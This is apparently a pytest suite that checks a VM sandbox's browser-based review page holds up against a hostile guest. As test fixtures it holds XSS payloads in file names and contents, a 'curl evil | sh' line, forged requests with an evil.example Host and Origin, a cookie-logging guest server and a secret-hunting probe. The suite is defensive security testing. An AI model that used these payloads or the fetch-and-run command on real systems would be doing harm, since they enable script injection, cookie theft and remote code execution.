"""The web review in a real browser (the system's Chromium, headless, through Selenium) on a real session whose
guest wrote hostile names and contents: no script of the guest runs, hunks are chosen, the host's files are
exactly the chosen result. And who may not use the page: a wrong token, another site, another local user.

Screenshots of the pages are written to $VMSANDBOX_SCREENSHOTS when it is set (README's come from here).
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import signal
import stat
import subprocess
import textwrap
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from vmsandbox import ui
from vmsandbox.session.record import Record

if TYPE_CHECKING:
    from selenium.webdriver.remote.webdriver import WebDriver
    from selenium.webdriver.remote.webelement import WebElement

from .conftest import Cli, VmFactory, guest_sh

pytestmark = pytest.mark.skipif(shutil.which("chromedriver") is None, reason="chromium-driver is not installed")

A_PY = "def f():\n    return 1\n\n\n\n\n\ndef g():\n    return 2\n"
NOTES = "one\ntwo\nthree\n"
RESOLVED = "one\nboth sides, resolved by hand\nthree\n"
COMMIT_SUBJECT = "Fix <img src=x onerror=window.pwned=5> in f"
HOSTILE = {  # name -> content, as the guest writes them
    '"><img src=x onerror="window.pwned=1">.txt': "<script>window.pwned=2</script>\n",
    "<svg onload=window.pwned=3>": "x\n",
    "\x1b[31mred\x1b[0m.txt": "\x1b]0;title\x07<b onmouseover=alert(1)>bold</b>\n",
    "quote'\"&amp;.md": "</textarea><script>window.pwned=4</script>\n",
    "long-" + "x" * 200 + ".txt": "long\n",
    "invoice\u202etxt.exe": "reordered\u2066 name\u200b\n",  # a right-to-left override and invisible characters
}


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    p = tmp_path_factory.mktemp("web") / "project"
    p.mkdir()
    (p / "a.py").write_text(A_PY)
    (p / "notes.txt").write_text(NOTES)
    git = ["git", "-C", str(p), "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "start"], check=True)
    return p


@pytest.fixture(scope="module")
def session(module_vms: VmFactory, project: Path) -> Record:
    record = module_vms.make(project)
    script = "sed -i 's/return 1/return 10/; s/return 2/return 20/' a.py && sed -i 's/two/guest two/' notes.txt && "
    script += " && ".join(f"printf '%s' {_q(content)} > {_q(name)}" for name, content in HOSTILE.items())
    script += (
        " && git -c safe.directory='*' -c user.email=a@vm -c user.name=agent checkout -qb feature"
        " && git -c safe.directory='*' -c user.email=a@vm -c user.name=agent commit -qm "
        + _q(COMMIT_SUBJECT)
        + " -- a.py"
    )
    guest_sh(record, script)
    (project / "notes.txt").write_text(NOTES.replace("two", "host two"))  # the same line: a conflict
    return record


def _q(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


class Server:
    def __init__(self, cli: Cli) -> None:
        self.child = cli.popen("ui", "--no-browser")
        assert self.child.stdout is not None
        self.url = self.child.stdout.readline().decode().strip()
        assert self.url.startswith("http://127.") and "?ticket=" in self.url, self.url
        self.base = self.url.partition("/?")[0]
        assert not self.base.startswith("http://127.0.0."), self.base  # an address of its own
        self.cookie = exchange(self.url)

    def stop(self) -> None:
        self.child.terminate()
        self.child.wait(timeout=30)


def exchange(url: str) -> dict[str, str]:
    """Open a URL `vmsandbox ui` printed (its ticket works once): the cookie a browser then holds."""
    with urllib.request.urlopen(url, timeout=30) as answer:  # noqa: S310 - a loopback address only
        set_cookie = answer.headers["Set-Cookie"]
    name, _, rest = set_cookie.partition("=")
    return {"name": name, "value": rest.split(";")[0]}


def cookie_header(server: Server) -> dict[str, str]:
    return {"Cookie": f"{server.cookie['name']}={server.cookie['value']}"}


@pytest.fixture(scope="module")
def server(cli: Cli) -> Iterator[Server]:
    s = Server(cli)
    yield s
    s.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[WebDriver]:
    from selenium import webdriver
    from selenium.webdriver.chrome.options import Options
    from selenium.webdriver.chrome.service import Service

    options = Options()
    options.binary_location = shutil.which("chromium") or "/usr/bin/chromium"
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--window-size=1400,1000"):
        options.add_argument(arg)
    driver = webdriver.Chrome(options=options, service=Service(shutil.which("chromedriver")))
    yield driver
    driver.quit()


def visit(driver: WebDriver, server: Server, path: str) -> None:
    """Open a page of the server in the browser, which holds the cookie (given once, on the page's address)."""
    if not driver.get_cookie(server.cookie["name"]) or server.base not in driver.current_url:
        driver.get(f"{server.base}/static/ui.css")
        driver.add_cookie({"name": server.cookie["name"], "value": server.cookie["value"], "path": "/"})
    driver.get(f"{server.base}{path}")


def shoot(driver: WebDriver, name: str) -> None:
    where = os.environ.get("VMSANDBOX_SCREENSHOTS")
    if where:
        driver.save_screenshot(str(Path(where) / name))


def test_a_hostile_guest_runs_no_script_and_the_chosen_hunks_land(
    session: Record, server: Server, browser: WebDriver, project: Path
) -> None:
    from selenium.webdriver.common.by import By

    d = browser
    visit(d, server, "/")
    assert session.name in d.find_element(By.ID, "sessions").text
    shoot(d, "sessions.png")
    visit(d, server, f"/s/{session.name}")
    labels = [e.text for e in d.find_elements(By.CSS_SELECTOR, "section.file .label")]
    for name in HOSTILE:  # every name shown as its characters are (ESC, bidi, zero-width as \xNN, \uNNNN)
        assert any(ui.visible(name)[:40] in label for label in labels), (name, labels)
    assert not any(ch in "".join(labels) for ch in "\x1b\u202e\u2066\u200b")
    assert d.execute_script("return typeof window.pwned") == "undefined"
    assert d.find_elements(By.CSS_SELECTOR, "main img, main b, main script") == []
    scripts = d.execute_script("return [...document.scripts].map(s => s.src)")
    assert scripts == [f"{server.base}/static/ui.js"]
    commits = d.find_element(By.ID, "commits").text
    assert "feature" in commits
    assert COMMIT_SUBJECT in commits  # the guest's words, as text
    assert "a.py" in commits
    listed = subprocess.run(["git", "-C", str(project), "for-each-ref"], capture_output=True, text=True, check=True)
    assert "vmsandbox" not in listed.stdout  # shown from a staging namespace that is gone again
    shoot(d, "hostile.png")

    sections = {
        s.find_element(By.CSS_SELECTOR, ".label").text: s for s in d.find_elements(By.CSS_SELECTOR, "section.file")
    }
    a_py = sections["a.py"]
    boxes = a_py.find_elements(By.CSS_SELECTOR, "input[type=checkbox]")
    assert len(boxes) == 2  # two hunks: f's and g's
    boxes[1].click()  # take f's change only
    notes = sections["notes.txt"]
    merged = notes.find_element(By.CSS_SELECTOR, "textarea.merge")
    assert "<<<<<<< host" in (merged.get_attribute("value") or "")
    merged.clear()
    merged.send_keys(RESOLVED)
    notes.find_element(By.CSS_SELECTOR, "input[type=radio][value=apply]").click()  # a conflict waits for a choice
    d.find_element(By.ID, "apply").click()
    outcome = _wait_for(d, "outcome").text
    assert "applied a.py" in outcome
    assert (project / "a.py").read_text() == A_PY.replace("return 1", "return 10")
    assert (project / "notes.txt").read_text() == RESOLVED
    for name, content in HOSTILE.items():
        assert (project / name).read_text() == content
    assert d.execute_script("return typeof window.pwned") == "undefined"


TERMUI = "def echo(message):\n    print(message)\n\n\ndef style(text):\n    return text\n"
PYC = ["core", "utils", "types", "parser", "termui", "decorators", "exceptions", "formatting"]


def test_a_review_reads_like_a_pull_request(
    module_vms: VmFactory, server: Server, browser: WebDriver, tmp_path: Path
) -> None:
    """One source change and a dozen files the project ignores or that are binary (a package imported once,
    images): the source change first and alone in view, the rest one line per group with its reason, folded;
    a group taken by its one choice, once expanded, lands whole; what was left waits."""
    from selenium.webdriver.common.by import By

    p = tmp_path / "pr"
    (p / "src" / "click").mkdir(parents=True)
    (p / "src" / "click" / "termui.py").write_text(TERMUI)
    (p / ".gitignore").write_text("__pycache__/\n*.pyc\n")
    git = ["git", "-C", str(p), "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "start"], check=True)
    record = module_vms.make(p)
    script = "sed -i 's/    print(message)/    print(message, flush=True)/' src/click/termui.py"
    script += " && mkdir -p src/click/__pycache__ assets"
    script += "".join(f" && printf '\\247\\r\\r\\n\\000{m}' > src/click/__pycache__/{m}.cpython-311.pyc" for m in PYC)
    script += "".join(f" && printf '\\211PNG\\000{n}' > assets/icon-{n}.png" for n in range(4))
    guest_sh(record, script)

    d = browser
    visit(d, server, f"/s/{record.name}")
    sections = d.find_elements(By.CSS_SELECTOR, "section.file")
    assert [s.find_element(By.CSS_SELECTOR, ".label").text for s in sections if s.is_displayed()] == [
        "src/click/termui.py"
    ]
    assert len(sections) == 1 + 9 + 5  # (the new directories are held with what they hold)
    assert sections[0].find_element(By.CSS_SELECTOR, ".badge.outcome").text == "will apply"
    groups = d.find_elements(By.CSS_SELECTOR, "section.group")
    lines = [g.find_element(By.CSS_SELECTOR, ".groupline").text for g in groups]
    assert "9 ignored by .gitignore" in lines[0] and "apply these 9" in lines[0], lines
    assert "5 binary files" in lines[1] and "apply these 5" in lines[1], lines
    assert [g.find_element(By.TAG_NAME, "details").get_attribute("open") for g in groups] == [None, None]
    toc = d.find_element(By.ID, "toc").text.splitlines()
    assert toc[0].startswith("src/click/termui.py") and "will apply" in toc[0], toc
    assert toc[1:] == ["9 held: ignored by .gitignore", "5 held: binary files"], toc
    shoot(d, "review.png")

    images = groups[1]
    images.find_element(By.TAG_NAME, "summary").click()  # expanded on request
    shown = images.find_elements(By.CSS_SELECTOR, "section.file")
    icons = [f"assets/icon-{n}.png" for n in range(4)]
    assert [s.find_element(By.CSS_SELECTOR, ".label").text for s in shown] == ["assets", *icons]
    outcomes = [s.find_element(By.CSS_SELECTOR, ".badge.outcome") for s in shown]
    assert [b.text for b in outcomes[1:]] == ["held: binary — pick to apply"] * 4
    images.find_element(By.CSS_SELECTOR, ".take-all input").click()  # the group's one choice
    assert {b.text for b in outcomes} == {"will apply"}
    d.find_element(By.ID, "apply").click()
    outcome = _wait_for(d, "outcome").text
    assert "applied src/click/termui.py" in outcome and "applied assets/icon-3.png" in outcome, outcome
    assert (p / "src" / "click" / "termui.py").read_text() == TERMUI.replace("(message)\n", "(message, flush=True)\n")
    assert (p / "assets" / "icon-2.png").read_bytes() == b"\x89PNG\x002"
    assert not (p / "src" / "click" / "__pycache__").exists()  # not chosen: it waits with the session
    assert "9 change(s) still pending" in d.find_element(By.ID, "left").text


def _wait_for(driver: WebDriver, element: str) -> WebElement:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    try:
        WebDriverWait(driver, 120).until(lambda d: bool(d.find_elements(By.ID, element)))
    except Exception as exc:
        raise AssertionError(driver.page_source[:3000]) from exc
    return driver.find_element(By.ID, element)


def _status(url: str, *, method: str = "GET", headers: dict[str, str] | None = None, data: bytes | None = None) -> int:
    request = urllib.request.Request(url, method=method, headers=headers or {}, data=data)  # noqa: S310
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:  # noqa: S310 - 127.0.0.1 only
            return int(answer.status)
    except urllib.error.HTTPError as exc:
        return exc.code


def test_no_cookie_another_site_or_another_user_is_refused(server: Server, session: Record) -> None:
    cookie = cookie_header(server)
    assert _status(f"{server.base}/", headers=cookie) == 200
    assert _status(f"{server.base}/") == 403
    assert _status(server.url) == 403  # the printed URL worked once
    assert _status(f"{server.base}/?ticket=wrong") == 403
    assert _status(f"{server.base}/", headers={"Cookie": f"{server.cookie['name']}=wrong"}) == 403
    # DNS rebinding: a name that resolves to this address is not this page
    assert _status(f"{server.base}/", headers={**cookie, "Host": "evil.example:80"}) == 403
    # a form of another site, with the cookie the browser would attach; a client that is no browser
    post = {**cookie, "Origin": "http://evil.example", "Content-Type": "application/x-www-form-urlencoded"}
    assert _status(f"{server.base}/s/{session.name}/apply", method="POST", headers=post, data=b"d0=x") == 403
    plain = {**cookie, "Content-Type": "application/x-www-form-urlencoded"}
    assert (
        _status(f"{server.base}/s/{session.name}/egress/allow", method="POST", headers=plain, data=b"value=a.b") == 403
    )
    # another local user, who cannot know the cookie
    nobody = pwd.getpwnam("nobody")
    probe = f"import urllib.request as u\ntry: u.urlopen('{server.base}/')\nexcept Exception as e: print(e.code)"
    done = subprocess.run(
        ["python3", "-c", probe], capture_output=True, text=True, timeout=60, check=False, user=nobody.pw_uid,
        group=nobody.pw_gid, extra_groups=[],
    )  # fmt: skip
    assert done.stdout.strip() == "403", done.stderr


def test_a_fanout_side_by_side_takes_one_session_per_file_then_ends_them(
    cli: Cli, module_vms: VmFactory, server: Server, browser: WebDriver, tmp_path: Path
) -> None:
    from selenium.webdriver.common.by import By

    p = tmp_path / "fan"
    p.mkdir()
    (p / "x.txt").write_text("base\n")
    first, second = module_vms.make(p), module_vms.make(p)
    guest_sh(first, "echo from-first > x.txt && echo same > y.txt")
    guest_sh(second, "echo from-second > x.txt && echo same > y.txt")
    visit(browser, server, f"/compare?s={first.name}&s={second.name}")
    first_row = browser.find_element(By.CSS_SELECTOR, "table.side > tbody > tr td.path").text
    assert first_row.split("\n")[0] == "x.txt"  # where the sessions differ comes first
    browser.find_element(By.CSS_SELECTOR, "#agreed summary").click()  # where they agree: folded until asked
    found = browser.find_elements(By.CSS_SELECTOR, "table.side > tbody > tr")
    assert found, browser.page_source[:3000]
    rows = {r.find_element(By.CSS_SELECTOR, "td.path").text.split("\n")[0]: r for r in found}
    assert sorted(rows) == ["x.txt", "y.txt"]
    assert "agree" in (rows["y.txt"].get_attribute("class") or "")
    assert "differ" in (rows["x.txt"].get_attribute("class") or "")
    shoot(browser, "compare.png")
    # after the page is drawn, the guest whose version is picked changes it (content and mode): the apply takes
    # what the page showed, never a new fetch (issue 43: it gathered again and matched by label)
    guest_sh(second, "echo 'curl evil | sh' > x.txt && chmod 755 x.txt")
    rows["x.txt"].find_element(By.CSS_SELECTOR, f"input[value^='{second.name}:']").click()
    rows["y.txt"].find_element(By.CSS_SELECTOR, f"input[value^='{first.name}:']").click()
    browser.find_element(By.CSS_SELECTOR, "input[name=destroy]").click()
    browser.find_element(By.ID, "apply").click()
    outcome = _wait_for(browser, "outcome").text
    assert f"x.txt from {second.name}" in outcome
    assert (p / "x.txt").read_text() == "from-second\n"
    assert (p / "x.txt").stat().st_mode & 0o111 == 0
    assert (p / "y.txt").read_text() == "same\n"
    states = {r["name"]: r["state"] for r in cli.ls()}
    assert states.get(first.name) != "running"
    assert states.get(second.name) != "running"


def test_run_review_web_waits_for_the_review_in_the_browser(cli: Cli, browser: WebDriver, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By

    p = tmp_path / "at-the-end"
    p.mkdir()
    (p / "a.txt").write_text("a\n")
    child = cli.popen("run", "--review", "web", str(p), "--", "sh", "-c", "echo b > a.txt")
    assert child.stdout is not None
    try:
        url = ""
        while not url.startswith("http://127."):
            line = child.stdout.readline().decode()
            assert line, "the run ended without serving its review"
            url = line.strip()
        browser.get(url)
        assert "a.txt" in _wait_for(browser, "review").text
        browser.find_element(By.ID, "apply").click()
        assert "applied a.txt" in _wait_for(browser, "outcome").text
        assert child.wait(timeout=300) == 0
        assert (p / "a.txt").read_text() == "b\n"
    finally:  # a run left waiting for its page would hold its VM past the test: Ctrl-C, as a person would
        if child.poll() is None:
            child.send_signal(signal.SIGINT)
            child.wait(timeout=300)


def test_the_page_allows_denies_and_publishes_as_the_cli_does(server: Server, session: Record) -> None:
    from vmsandbox.egress import policy

    headers = {**cookie_header(server), "Origin": server.base, "Content-Type": "application/x-www-form-urlencoded"}
    where = f"{server.base}/s/{session.name}/egress"
    assert _status(f"{where}/allow", method="POST", headers=headers, data=b"value=example.org") == 200  # 303 followed
    assert "example.org" in policy.read_config(session.files)["allow"]
    assert _status(f"{where}/deny", method="POST", headers=headers, data=b"value=example.org") == 200
    assert "example.org" not in policy.read_config(session.files)["allow"]
    assert _status(f"{where}/publish", method="POST", headers=headers, data=b"value=3000") == 200
    assert [p.guest for p in Record.load(session.name).publish] == [3000]
    assert _status(f"{where}/unpublish", method="POST", headers=headers, data=b"value=3000") == 200
    assert Record.load(session.name).publish == ()
    proxy = _status(f"{server.base}/s/{session.name}/log/proxy", headers={"Cookie": headers["Cookie"]})
    assert proxy == 200


def test_the_session_page_applies_what_it_showed(
    module_vms: VmFactory, server: Server, browser: WebDriver, tmp_path: Path
) -> None:
    """Between the page and its apply the guest changes a file's content, another's mode and a link's target,
    and a second look (another tab) fetches them into the mirror: what lands is what the page showed, or
    nothing (the content that changed is refused, with "look again")."""
    from selenium.webdriver.common.by import By

    p = tmp_path / "contract"
    p.mkdir()
    (p / "a.txt").write_text("a\n")
    (p / "b.txt").write_text("b\n")
    record = module_vms.make(p)
    guest_sh(record, "printf 'echo reviewed\\n' > run.sh && ln -s a.txt link && printf 'data\\n' > plain.txt")
    visit(browser, server, f"/s/{record.name}")
    labels = [e.text for e in browser.find_elements(By.CSS_SELECTOR, "section.file .label")]
    assert sorted(labels) == ["link", "plain.txt", "run.sh"], labels
    guest_sh(record, "printf 'curl evil | sh\\n' > run.sh && chmod 755 run.sh plain.txt && ln -sfn b.txt link")
    assert _status(f"{server.base}/s/{record.name}", headers=cookie_header(server)) == 200  # a second look
    browser.find_element(By.ID, "apply").click()
    outcome = _wait_for(browser, "outcome").text
    assert "run.sh" in outcome and "look" in outcome, outcome
    assert not (p / "run.sh").exists()
    assert (p / "link").readlink() == Path("a.txt")
    assert (p / "plain.txt").read_text() == "data\n"
    assert stat.S_IMODE((p / "plain.txt").stat().st_mode) & 0o111 == 0


ATTACK = (Path(__file__).parent / "hostile_page.html").read_text()

GUEST_SERVER = """
import http.server
class Handler(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        with open("/tmp/attack/cookies.log", "a") as log:
            log.write(repr(self.headers.get("Cookie")) + "\\n")
        super().do_GET()
http.server.ThreadingHTTPServer(("127.0.0.1", 8124), Handler).serve_forever()
"""


def test_a_page_a_guest_serves_gets_nothing_from_the_page(
    cli: Cli, server: Server, browser: WebDriver, session: Record
) -> None:
    """A page the guest serves on a published port, opened in the browser that holds the review's cookie, tries
    GETs, POSTs, a form, an image and a script against the review: it reads nothing, changes nothing, starts no
    fetch from a guest; and the review's cookie never reaches the guest's server."""
    visit(browser, server, "/")  # the browser holds the cookie
    page = ATTACK.replace("BASE", json.dumps(server.base)).replace("NAME", json.dumps(session.name))
    script = f"mkdir -p /tmp/attack && cd /tmp/attack && printf '%s' {_q(page)} > attack.html"
    script += f" && printf '%s' {_q(textwrap.dedent(GUEST_SERVER))} > srv.py"
    script += " && (setsid python3 srv.py </dev/null >/dev/null 2>&1 &)"
    guest_sh(session, script)
    ready = 'for i in $(seq 120); do python3 -c "$PROBE" && exit 0; sleep 0.5; done; exit 1'
    probe = "import socket; socket.create_connection(('127.0.0.1', 8124), 1).close()"
    guest_sh(session, f'PROBE="{probe}"; {ready}')
    published = cli.run("port", "publish", session.name, "8124")
    assert published.returncode == 0, published.stderr.decode()
    listed = [json.loads(line) for line in cli.run("port", "ls", session.name, "--json").stdout.splitlines()]
    host_port = next(p["host"] for p in listed if p["guest"] == 8124)
    reviews = session.files.root / "reviews"
    before = sorted(reviews.iterdir()) if reviews.is_dir() else []
    from vmsandbox.egress import policy

    allowed = policy.read_config(session.files)["allow"]
    try:
        browser.get(f"http://127.0.0.1:{host_port}/attack.html")
        deadline = time.monotonic() + 120
        while not browser.title.startswith("done") and time.monotonic() < deadline:
            time.sleep(0.2)
        said = json.loads(browser.title.removeprefix("done "))
    finally:
        cli.run("port", "rm", session.name, "8124")
    assert "read:error" in said, said  # nothing read
    assert (sorted(reviews.iterdir()) if reviews.is_dir() else []) == before, said  # no review made: no fetch
    assert policy.read_config(session.files)["allow"] == allowed
    assert [p.guest for p in Record.load(session.name).publish] == []
    cookies = guest_sh(session, "cat /tmp/attack/cookies.log")
    assert server.cookie["value"] not in cookies and server.cookie["name"] not in cookies, cookies


FAKE_BROWSER = """#!/bin/sh
printf '%s\\n' "$@" > "$0.args"
sleep 300
"""  # (not exec: a browser keeps what it was given on its command line while it runs)

ATTACKER = Path(__file__).parent / "secret_hunter.py"


def test_another_account_finds_no_working_secret_while_the_page_opens_a_browser(
    cli: Cli, session: Record, tmp_path: Path
) -> None:
    """`vmsandbox ui` opens a browser (one that never loads its page, so what it was given stays unused): another
    local account reads every process's command line and environment and every file it can under the state
    and runtime directories, and tries each word that could be a secret as a ticket and as the cookie: none
    works. (The token was on the browser's command line.)"""
    fake = tmp_path / "fake-browser"
    fake.write_text(FAKE_BROWSER)
    fake.chmod(0o755)
    env = cli.env(BROWSER=str(fake), DISPLAY=":99")
    child = cli.popen("ui", env=env)
    try:
        assert child.stdout is not None
        url = child.stdout.readline().decode().strip()
        base = url.partition("/?")[0]
        args = Path(str(fake) + ".args")
        deadline = time.monotonic() + 60
        while not args.exists() and time.monotonic() < deadline:
            time.sleep(0.2)
        opened = args.read_text().strip()
        assert opened.startswith("file://") and "ticket" not in opened, opened
        launcher = Path(opened.removeprefix("file://"))
        assert stat.S_IMODE(launcher.stat().st_mode) == 0o600
        nobody = pwd.getpwnam("nobody")
        roots = [str(cli.state_dir), os.environ.get("XDG_RUNTIME_DIR", "/run/user"), "/tmp", "/var/tmp"]
        done = subprocess.run(
            ["python3", "-c", ATTACKER.read_text(), base, *roots], capture_output=True, text=True, timeout=600,
            check=False, user=nobody.pw_uid, group=nobody.pw_gid, extra_groups=[], cwd="/",
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        tried, worked = done.stdout.split(" ", 1)
        assert int(tried) > 0 and worked.strip() == "[]", done.stdout
        assert _status(url) == 200  # the printed URL, the person's own, still works (once)
    finally:
        child.terminate()
        child.wait(timeout=30)
        subprocess.run(["pkill", "-f", str(fake)], check=False)
